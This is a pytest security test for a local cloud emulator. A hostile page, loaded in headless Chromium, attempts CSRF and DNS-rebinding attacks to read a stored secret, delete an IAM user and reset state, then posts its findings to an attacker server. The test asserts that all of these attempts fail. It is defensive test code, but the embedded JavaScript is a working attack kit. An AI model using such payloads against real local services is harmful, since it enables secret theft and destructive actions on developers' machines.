"""A page of an attacker's in a real browser on a developer's machine, while the local cloud is up."""

import http.server
import json
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from localcloud.emulator import control
from localcloud.provider.session import Session

_BROWSER = next((found for name in ("chromium", "google-chrome", "chrome") if (found := shutil.which(name))), "")
_SECRET = "the value of a secret"
_SECONDS = 60

pytestmark = pytest.mark.skipif(not _BROWSER, reason="there is no Chromium on the PATH")

#: The page: every way by which a page sends requests, then what came of each.
_PAGE = """<!doctype html><iframe name=frame></iframe><script>
const told = {};
const wait = (seconds) => new Promise((done) => setTimeout(done, seconds * 1000));
async function tried(name, what) {
  try { told[name] = String(await what()); } catch (error) { told[name] = "refused: " + error; }
}
const read = async (url, options) => { const a = await fetch(url, options); return a.status + " " + await a.text(); };
const form = "application/x-www-form-urlencoded";
const users = "Action=DeleteUser&UserName=a&Version=2010-05-08";
const scope = "AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/secretsmanager/aws4_request, x";
const get = {"X-Amz-Target": "secretsmanager.GetSecretValue", "Content-Type": "application/x-amz-json-1.1",
             "Authorization": scope};
function submit(url, enctype, name, value) {
  const made = Object.assign(document.createElement("form"), {action: url, method: "post", enctype, target: "frame"});
  made.append(Object.assign(document.createElement("textarea"), {name, value}));
  document.body.append(made);
  made.submit();
}
const image = (url) => new Promise((done) => {
  const made = new Image(); made.onload = made.onerror = (event) => done(event.type); made.src = url;
});
const socketed = (url) => new Promise((done) => {
  const made = new WebSocket(url); made.onopen = made.onerror = (event) => done(event.type);
});
(async () => {
  for (const host of ["127.0.0.1", "localhost", "x.localhost"]) {
    const url = `http://${host}:EMULATOR/`;
    await tried(host + " form", () => fetch(url, {method: "POST", mode: "no-cors", headers: {"Content-Type": form},
                                                  body: users}).then((answer) => answer.type));
    await tried(host + " without credentials", () => read(url, {credentials: "omit"}));
    await tried(host + " with a preflight", () => read(url, {method: "POST", headers: get, body: '{"SecretId": "s"}'}));
    await tried(host + " reset", () => fetch(url + "moto-api/reset", {method: "POST", mode: "no-cors"})
                                         .then((answer) => answer.type));
    await tried(host + " beacon", () => navigator.sendBeacon(url + "moto-api/reset", "x"));
    await tried(host + " image", () => image(url + "moto-api/recorder/start-recording"));
    await tried(host + " websocket", () => socketed(`ws://${host}:EMULATOR/`));
    submit(url, form, "Action", "DeleteUser&UserName=a");
    submit(url + "moto-api/reset", "text/plain", "x", "y");
    submit(url + "?Action=DeleteUser&UserName=a&Version=2010-05-08", "multipart/form-data", "x", "y");
    await wait(0.2);
  }
  await tried("the own server", () => read("/rebind"));
  await tried("rebound read", () => read("/moto-api/localcloud"));
  await tried("rebound secret", () => read("/", {method: "POST", headers: get, body: '{"SecretId": "s"}'}));
  await tried("rebound reset", () => read("/moto-api/reset", {method: "POST"}));
  await tried("rebound form", () => read("/", {method: "POST", headers: {"Content-Type": form}, body: users}));
  await fetch("http://127.0.0.1:REPORTS/", {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
})();
</script>"""


class _Attacker(http.server.ThreadingHTTPServer):
    """Serves the page and takes its report; `rebind` is called when the page asks for it."""

    def __init__(self) -> None:
        super().__init__((control.HOST, 0), _Handler)
        self.page = ""
        self.rebound = threading.Event()
        self.report: dict[str, str] = {}
        self.reported = threading.Event()
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _Handler(http.server.BaseHTTPRequestHandler):
    server: _Attacker

    def do_GET(self) -> None:
        """Give the page, or let the name lead elsewhere from now on."""
        if self.path == "/rebind":
            self.server.rebound.set()
        text = ("rebound" if self.path == "/rebind" else self.server.page).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def do_POST(self) -> None:
        """Take the report."""
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        self.server.reported.set()

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


def _pass_on(source: socket.socket, target: socket.socket) -> None:
    try:
        while data := source.recv(1 << 16):
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        return


@pytest.fixture
def attacker(emulator_process: control.Endpoint) -> Iterator[tuple[_Attacker, int]]:
    """An attacker's server, and the port at which the attacker's name leads to it first, and then to the emulator.

    A name is bound to an address for a whole machine; here it is one port whose connections go elsewhere, so that the
    browser sees one origin and the emulator the browser's own requests.
    """
    with _Attacker() as server, socket.create_server((control.HOST, 0)) as listener:

        def accept() -> None:
            while True:
                try:
                    browser, _ = listener.accept()
                except OSError:
                    return
                port = emulator_process.port if server.rebound.is_set() else server.server_port
                ahead = socket.create_connection((control.HOST, port))
                for one, other in ((browser, ahead), (ahead, browser)):
                    threading.Thread(target=_pass_on, args=(one, other), daemon=True).start()

        threading.Thread(target=accept, daemon=True).start()
        page = _PAGE.replace("EMULATOR", str(emulator_process.port)).replace("REPORTS", str(server.server_port))
        server.page = page
        yield server, listener.getsockname()[1]
        server.shutdown()


def test_a_page_reads_nothing_and_changes_nothing(
    aws: Session, attacker: tuple[_Attacker, int], tmp_path: Path
) -> None:
    server, port = attacker
    aws.client("secretsmanager").create_secret(Name="s", SecretString=_SECRET)
    aws.client("iam").create_user(UserName="a")
    browser = subprocess.Popen(
        [
            *(_BROWSER, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions"),
            *("--disable-dev-shm-usage", f"--user-data-dir={tmp_path}", "--no-proxy-server"),
            "--host-resolver-rules=MAP attacker.example 127.0.0.1",
            f"http://attacker.example:{port}/",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        assert server.reported.wait(_SECONDS), "the page has run to its end"
    finally:
        browser.kill()
        browser.wait()
    told = server.report
    assert told["the own server"] == "200 rebound"
    assert {name: text[:4] for name, text in told.items() if name.startswith("rebound")} == {
        name: "403 " for name in ("rebound read", "rebound secret", "rebound reset", "rebound form")
    }, "to the browser it is one site, so that the page reads the refusal"
    assert _SECRET not in json.dumps(told)
    direct = {name: text for name, text in told.items() if name.partition(" ")[0].endswith(("127.0.0.1", "localhost"))}
    assert len(direct) == 21
    readable = ("without credentials", "with a preflight")
    assert {text.partition(":")[0] for name, text in direct.items() if name.endswith(readable)} == {"refused"}
    assert {text for name, text in direct.items() if name.endswith(("websocket", "image"))} == {"error"}
    assert aws.client("secretsmanager").get_secret_value(SecretId="s")["SecretString"] == _SECRET
    assert [user["UserName"] for user in aws.client("iam").list_users()["Users"]] == ["a"]
